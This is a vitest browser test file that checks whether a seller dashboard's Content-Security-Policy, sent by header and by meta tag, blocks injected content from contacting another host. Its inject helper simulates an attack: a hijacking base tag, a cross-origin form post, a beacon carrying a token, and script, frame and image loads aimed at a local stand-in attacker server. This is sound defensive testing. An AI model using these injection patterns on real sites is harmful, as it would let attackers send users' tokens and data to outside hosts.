import { Hono } from 'hono'
import { expect, test } from 'vitest'
import { serveApp } from '../support/apps/serve-app.ts'
import { signUpSeller, withDashboard } from '../support/browser/dashboard.ts'

const { serve, expectProblems } = withDashboard()

/** Somebody else's host. It records every request. */
const serveStranger = async () => {
  const reached: string[] = []
  const app = new Hono().all('*', (c) => {
    reached.push(c.req.path)
    return c.text('', 200, { 'access-control-allow-origin': '*' })
  })
  return { origin: await serveApp(app), reached }
}

/** Injects what an attacker would. Ends when each part has loaded or was refused. */
const inject = async (stranger: string) => {
  const base = document.createElement('base')
  base.href = `${stranger}/base/`
  document.head.prepend(base)
  const loaded = (name: string, set: (element: HTMLElement) => void) =>
    new Promise<void>((resolve) => {
      const element = document.createElement(name)
      element.onload = () => resolve()
      element.onerror = () => resolve()
      set(element)
      document.body.append(element)
      // A refused frame shows an error, an object nothing. Requests start at once or never.
      setTimeout(resolve, 300)
    })
  const attributes = (values: Record<string, string>) => (element: HTMLElement) => {
    for (const [name, value] of Object.entries(values)) element.setAttribute(name, value)
  }
  const form = document.createElement('form')
  form.action = `${stranger}/form`
  form.method = 'post'
  const frame = document.createElement('iframe')
  frame.name = 'elsewhere'
  form.target = 'elsewhere'
  document.body.append(form, frame)
  form.submit()
  navigator.sendBeacon(`${stranger}/beacon`, 'token')
  await Promise.all([
    fetch('api/stores/my/publications').catch(() => undefined),
    fetch(`${stranger}/fetch`).catch(() => undefined),
    loaded('img', attributes({ src: `${stranger}/image` })),
    loaded('iframe', attributes({ src: `${stranger}/frame` })),
    loaded('object', attributes({ data: `${stranger}/object` })),
    loaded('script', attributes({ src: `${stranger}/script` })),
    loaded('link', attributes({ rel: 'stylesheet', href: `${stranger}/style` })),
    loaded('video', attributes({ src: `${stranger}/video` })),
  ])
}

test.each(['/auth', '/auth/verify', '/auth/email', '/dashboard', '/', '/nowhere/at/all'])(
  'threat 58: what is injected into %s sends nothing to another host, by header and by meta',
  async (path) => {
    const { app, origin, context } = await serve()
    expectProblems(/policy|Failed to fetch|Refused/i)
    const { token } = await signUpSeller(app, 'noor@seller.example', { store: 'noor' })
    const stranger = await serveStranger()
    // The meta tag alone, as when another web server serves the files.
    const withoutHeader = await serveApp({
      fetch: async (request) => {
        const response = await app.app.fetch(request)
        const headers = new Headers(response.headers)
        headers.delete('content-security-policy')
        return new Response(response.body, { status: response.status, headers })
      },
    })
    for (const host of [origin, withoutHeader]) {
      const page = await (await context()).newPage()
      if (path === '/dashboard') {
        await page.goto(`${host}/favicon.svg`)
        await page.evaluate((kept) => localStorage.setItem('token', kept), token)
      }
      await page.goto(host + path)
      await page.evaluate(inject, stranger.origin)
      expect(stranger.reached, host === origin ? 'by the header' : 'by the meta').toEqual([])
    }
  },
)

test('the harness notices what a page without a policy lets out', async () => {
  const { context } = await serve()
  expectProblems(/./)
  const stranger = await serveStranger()
  const bare = await serveApp(new Hono().get('/', (c) => c.html('<!doctype html><body></body>')))
  const page = await (await context()).newPage()
  await page.goto(bare)
  await page.evaluate(inject, stranger.origin)
  for (const one of ['fetch', 'image', 'frame', 'object', 'script', 'style', 'video', 'beacon', 'form']) {
    await expect.poll(() => stranger.reached).toContain(`/${one}`)
  }
  expect(stranger.reached).toContain('/base/api/stores/my/publications')
})
